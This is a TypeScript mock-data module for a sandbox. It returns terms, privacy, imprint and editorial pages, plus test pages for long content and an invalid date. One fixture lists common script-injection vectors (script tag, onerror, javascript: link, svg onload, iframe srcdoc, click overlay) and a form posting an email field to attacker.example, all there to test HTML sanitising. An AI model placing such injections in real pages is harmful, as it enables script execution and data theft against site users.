import { isCountry } from "../../lib/countries"
import type { Language } from "../../lib/languages"
import type { ContentText, TranslatedText } from "./contentText"
import { imprintTexts, invitationTexts } from "./editorialTexts"
import { privacyTexts } from "./privacyTexts"
import { termsTexts } from "./termsTexts"

/** Documents that also exist once per country, such as `terms-at`. */
const countryTexts: Record<string, TranslatedText> = { terms: termsTexts, privacy: privacyTexts }

const editorialTexts: Record<string, TranslatedText> = { imprint: imprintTexts, invitations: invitationTexts }

/** Sample ids of contentPage, each with a description for the sandbox's start page. */
export const contentSamples: Record<string, string> = {
  terms: "Terms and Conditions",
  "terms-at": "Terms and Conditions for Austria",
  privacy: "Privacy Policy",
  "privacy-se": "Privacy Policy for Sweden",
  imprint: "Legal notice",
  invitations: "An editorial page",
  long: "A long text with a table of contents, its headings out of order",
  "invalid-date": "An invalid date: its hour is 29",
  unsafe: "Hostile HTML: no script may run, no picture may call home",
  "no-such-page": "Unknown to the backend",
}

/** HTML with every common way to smuggle in a script, around text that has to stay. */
const unsafeHtml = `<p>This sentence stays.</p>
<script>document.title = "unsafe"</script>
<img src="x" alt="" onerror="document.title = 'unsafe'">
<a href="javascript:document.title='unsafe'">a link</a>
<svg onload="document.title = 'unsafe'"><desc>drawing</desc></svg>
<iframe srcdoc="<script>parent.document.title = 'unsafe'</script>"></iframe>
<form action="https://attacker.example/"><input name="email"><button>Send</button></form>
<p style="position: fixed; inset: 0" onclick="document.title = 'unsafe'">This one too.</p>`

/** A text several printed pages long, with lists, tables, and headings out of order. */
function longHtml(language: Language): string {
  const sections = [termsTexts, privacyTexts, imprintTexts, invitationTexts].flatMap(
    (texts) => texts[language].sections,
  )
  const parts = sections.map(
    ([heading, paragraph]) =>
      `<h1>${heading}</h1><p>${`${paragraph} `.repeat(4)}</p><h3>${heading}</h3><ul><li>${paragraph}</li></ul>
<table><tbody><tr><th scope="row">${heading}</th><td>${paragraph}</td></tr></tbody></table>`,
  )
  return parts.join("")
}

function html({ intro, sections }: ContentText): string {
  const parts = sections.map(([heading, paragraph]) => `<h2>${heading}</h2><p>${paragraph}</p>`)
  return `<p>${intro}</p>${parts.join("")}`
}

/** The texts for an id, and the country that the id names: an ISO code in upper case, or empty. */
function find(id: string): { texts: TranslatedText; country: string } | null {
  const [kind = "", iso] = id.split("-")
  const country = iso?.toUpperCase() ?? ""
  const perCountry = Object.hasOwn(countryTexts, kind) ? countryTexts[kind] : undefined
  if (perCountry && (iso === undefined || isCountry(country))) return { texts: perCountry, country }
  const texts = Object.hasOwn(editorialTexts, id) ? editorialTexts[id] : undefined
  return texts ? { texts, country: "" } : null
}

/** The response of contentPage: a page in the requested language; null if there is none. */
export function contentPage(id: string, language: Language) {
  const updatedAt = "2026-03-01T09:00:00Z"
  if (id === "unsafe") return { id, title: "Unsafe", html: unsafeHtml, updatedAt }
  if (id === "invalid-date")
    return { id, title: "No date", html: html(imprintTexts[language]), updatedAt: "2026-03-01T29:00:00Z" }
  if (id === "long") return { id, title: termsTexts[language].title, html: longHtml(language), updatedAt }
  const found = find(id)
  if (!found) return null
  const text = found.texts[language]
  const title = found.country === "" ? text.title : `${text.title} (${found.country})`
  return { id, title, html: html(text), updatedAt }
}
